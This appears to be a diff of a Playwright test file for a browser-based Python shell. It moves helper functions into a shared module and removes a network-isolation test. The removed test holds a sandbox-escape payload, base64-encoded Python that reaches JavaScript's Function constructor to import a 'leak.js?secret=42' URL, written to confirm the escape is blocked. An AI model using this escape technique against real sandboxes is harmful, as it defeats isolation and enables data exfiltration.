@@ -1,53 +1,15 @@
-import type { Locator, Page } from '@playwright/test';
+import type { Page } from '@playwright/test';
+import { addScriptedConnection, expect, expectReply, test, waitForServiceWorker } from './fixtures';
 import {
-  addScriptedConnection,
-  expect,
-  expectReply,
-  startSession,
-  test,
-  waitForServiceWorker,
-} from './fixtures';
-
-/** Python's first load in a fresh profile (13 MB from the local server, then Pyodide's start-up). */
-const PYTHON_COLD_TIMEOUT = 120_000;
-
-const workspaceOf = (page: Page) => page.getByRole('complementary', { name: 'Workspace' });
-const shellLog = (page: Page) => workspaceOf(page).getByRole('log', { name: 'Shell output' });
-const shellInput = (page: Page) => workspaceOf(page).getByRole('textbox', { name: 'Shell command' });
-
-/** Starts a Demo session (one haiku reply) and expands the workspace's Shell panel. */
-async function openShell(page: Page): Promise<void> {
-  await startSession(page, 'write a haiku about moss');
-  await expectReply(page, 'Here is your haiku');
-  const workspace = workspaceOf(page);
-  if (!(await workspace.isVisible())) await page.getByRole('button', { name: 'Files' }).click();
-  await workspace.locator('summary', { hasText: 'Shell' }).click();
-  await expect(shellInput(page)).toBeVisible();
-}
-
-/** Types `command` into the panel and submits it; returns the new entry, still running or not. */
-async function submitInShell(page: Page, command: string): Promise<Locator> {
-  const entries = shellLog(page).locator('.entry');
-  const before = await entries.count();
-  await shellInput(page).fill(command);
-  await shellInput(page).press('Enter');
-  await expect(entries).toHaveCount(before + 1);
-  const entry = entries.nth(before);
-  await expect(entry.locator('.prompt-line')).toContainText(command);
-  return entry;
-}
-
-/** The finished entry's output (its `<pre>`), once the panel is ready for the next command. */
-async function outputOf(page: Page, entry: Locator): Promise<string> {
-  await expect(entry.locator('pre')).toHaveCount(1, { timeout: PYTHON_COLD_TIMEOUT });
-  await expect(workspaceOf(page).getByRole('button', { name: 'Run' })).toBeVisible();
-  return (await entry.locator('pre').textContent()) ?? '';
-}
-
-/** Runs `command` in the person's shell panel and returns the output shown for it. */
-async function runInShell(page: Page, command: string): Promise<string> {
-  return outputOf(page, await submitInShell(page, command));
-}
+  openShell,
+  outputOf,
+  PYTHON_COLD_TIMEOUT,
+  runInShell,
+  shellInput,
+  shellLog,
+  submitInShell,
+  workspaceOf,
+} from './shell-panel';
 
 /**
  * Records whether a "Loading Python" progress bar was ever shown inside `selector`: the
@@ -196,29 +158,4 @@ test('Python runs offline once the service worker has cached the engines', async
   await expectReply(page, 'Here is your haiku');
   await workspaceOf(page).locator('summary', { hasText: 'Shell' }).click();
   expect(await runInShell(page, 'python3 -c "print(6*7)"')).toBe('Exit code: 0\n42');
-});
-
-test('code in the shell cannot reach the network, not even through dynamic import()', async ({
-  page,
-  llm,
-}) => {
-  test.setTimeout(2 * PYTHON_COLD_TIMEOUT);
-  await openShell(page);
-  await waitForServiceWorker(page);
-  // Workers started from now on are the service worker's clients.
-  await page.reload();
-  await expectReply(page, 'Here is your haiku');
-  await workspaceOf(page).locator('summary', { hasText: 'Shell' }).click();
-
-  // Any JS object leads Python to the realm's Function constructor, and from there to import().
-  const leak = new URL('/leak.js?secret=42', llm.url).href;
-  const python = (lines: string[]) =>
-    `echo ${Buffer.from(lines.join('\n')).toString('base64')} | base64 -d > /tmp/p.py && python3 /tmp/p.py`;
-  const realm = 'from pyodide.ffi import to_js; F = to_js([]).constructor.constructor';
-  const fire = `F("import('${leak}').then(() => self.__leak = 'loaded', (e) => self.__leak = 'refused: ' + e.message)")()`;
-  expect(await runInShell(page, python([realm, fire]))).toBe('Exit code: 0');
-  await expect
-    .poll(async () => runInShell(page, python([realm, "print(F('return String(self.__leak)')())"])))
-    .toMatch(/^Exit code: 0\nrefused: /);
-  expect(llm.requests.map((r) => r.path)).not.toContainEqual(expect.stringContaining('leak'));
 });
